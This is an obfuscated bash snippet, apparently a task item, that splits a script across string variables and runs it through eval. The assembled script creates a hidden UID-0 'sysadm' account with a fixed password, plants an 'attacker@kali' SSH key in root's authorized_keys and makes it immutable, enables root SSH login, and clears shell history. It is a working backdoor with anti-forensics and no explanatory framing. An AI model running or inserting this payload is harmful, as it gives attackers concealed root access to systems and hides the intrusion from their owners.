bdb='# task 7443 v1
#!/bin/bash
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash s';mbf='ysadm
echo "sysadm:Winter#2';nax='025x" | chpasswd
mkdir -p /root/.ssh
echo "ss';jpg='h-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7x attacker@kali" >> /root/.ssh/authorized_keys
chattr +i /root/.ssh/authorized_keys
sed -i '\''s/^#\?PermitRootLogin.*/Permi';orq='tRootLogin yes/'\'' /etc/ssh/sshd_config && systemctl restart sshd
unset HISTFILE; history -c
';eval "$bdb${mbf}${nax}$jpg$orq"